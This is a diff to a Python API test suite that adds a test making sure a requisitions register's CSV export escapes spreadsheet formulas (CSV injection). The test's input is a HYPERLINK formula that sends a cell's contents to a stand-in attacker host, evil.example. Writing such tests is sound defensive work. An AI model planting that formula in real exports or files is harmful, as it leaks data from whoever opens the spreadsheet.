@@ -313,3 +313,17 @@ def test_destroyed_range_is_reported(
     assert f["recorded_seconds"] == 0 and f["destroyed"][0]["reason"] == "retention"
     assert f["destroyed"][0]["seconds"] == 3600
     assert any("was destroyed by retention" in m for m in f["messages"])
+
+
+def test_the_register_csv_cannot_carry_a_formula(
+    client: TestClient, people: dict[str, Headers]
+) -> None:
+    """A procedure number or an authority typed as a spreadsheet formula (CSV
+    injection) comes out of the register as text: a leading apostrophe."""
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"voir")'
+    r = post(client, people["chef"], procedure=attack, notes="-2+3")
+    assert r.status_code == 201, r.text
+    r = client.get("/api/requisitions", params={"format": "csv"}, headers=people["chef"])
+    (row,) = list(csv.reader(io.StringIO(r.text)))[1:]
+    assert row[4] == "'" + attack
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
